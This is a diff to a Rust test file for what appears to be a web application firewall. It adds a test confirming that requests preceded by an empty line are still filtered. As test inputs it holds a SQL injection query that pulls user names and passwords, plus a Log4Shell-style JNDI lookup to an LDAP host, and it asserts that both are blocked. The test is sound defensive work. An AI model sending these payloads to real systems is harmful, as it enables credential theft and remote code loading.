@@ -2,7 +2,7 @@
 
 use std::fs;
 
-use crate::support::{Answer, Palisade, call, call_with, command, shop, text, until};
+use crate::support::{Answer, Palisade, call, call_raw, call_with, command, shop, text, until};
 
 /// SQL injection in a query, which nobody sends by mistake.
 const ATTACK: &str = "/api/v1/products?q=1%27%20union%20select%20name,pass%20from%20users--%20";
@@ -47,6 +47,31 @@ fn attacks_in_bodies_keys_cookies_and_paths_count_too() {
         assert_eq!(answer.status, 403, "{target} {body}");
     }
     assert!(upstream.got().is_empty());
+}
+
+#[test]
+fn an_empty_line_before_the_request_line_hides_nothing() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
+    let get = |target: &str| format!("GET {target} HTTP/1.1\r\nHost: h\r\n");
+    let close = "Connection: close\r\n\r\n";
+    for target in [ATTACK, "/api/v1/products?x=${jndi:ldap://192.0.2.1/a}"] {
+        let answer = call_raw(palisade.address, format!("\r\n{}{close}", get(target)).as_bytes());
+        assert_eq!(answer.status, 403, "{target}: {}", answer.body);
+    }
+    assert!(upstream.got().is_empty());
+    // A head that is refused for its form is shown to the rules, too.
+    let doubled = format!("\r\n{}Host: h\r\n{close}", get(ATTACK));
+    let answer = call_raw(palisade.address, doubled.as_bytes());
+    assert_eq!(answer.status, 400, "{}", answer.body);
+    let id = answer.header("palisade-event").expect("an id").to_owned();
+    let told = until("its event", || {
+        let event = palisade.json(&["why", &id])["event"].clone();
+        event["rules"].as_array().map(Vec::len).filter(|rules| *rules > 0)
+    });
+    assert!(told > 0);
+    let honest = format!("\r\n{}{close}", get("/api/v1/products"));
+    assert_eq!(call_raw(palisade.address, honest.as_bytes()).status, 200);
 }
 
 #[test]
